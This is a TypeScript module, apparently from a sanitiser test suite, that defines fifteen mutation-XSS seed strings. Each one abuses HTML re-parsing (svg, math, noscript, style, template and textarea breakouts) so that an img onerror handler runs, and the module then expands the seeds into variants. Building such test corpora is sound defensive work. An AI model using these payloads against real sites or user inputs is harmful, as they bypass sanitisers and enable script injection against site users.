/** Mutation XSS: harmless when a sanitiser parses it, another tree when it is parsed again. */
import { asItIs, html, inAllowed, upperTags, variations } from './hostile-message.ts'
import type { HostileClass } from './hostile-message.ts'

const SEEDS = [
  '<svg></p><style><a id="</style><img src=x onerror={run}>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={run}&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>',
  '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
  '<svg><p><style><g title="</style><img src=x onerror={run}>"></p></svg>',
  '<listing>&lt;img src=x onerror={run}&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror={run}>"></xmp>',
  '<template><s><template><s><img src=x onerror={run}></s></template></s></template><img src=x onerror={run}>',
  '<textarea><p title="</textarea><img src=x onerror={run}>"></textarea>',
  '<title><a title="</title><img src=x onerror={run}>"></a></title>',
  '<select><template><b></template></select><noembed><p title="</noembed><img src=x onerror={run}>">',
  '<table><td><svg><desc><table><td></svg><img src=x onerror={run}></table>',
  '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror={run}>">',
  '<b><a href="https://one.test"><p><a href="x"><img src=x onerror={run}></a></p></a></b>',
  '<iframe><p title="</iframe><img src=x onerror={run}>"></iframe>'
]

export const mutation: HostileClass = {
  name: 'mutation',
  messages: variations(SEEDS, [asItIs, upperTags, inAllowed]).map(html)
}
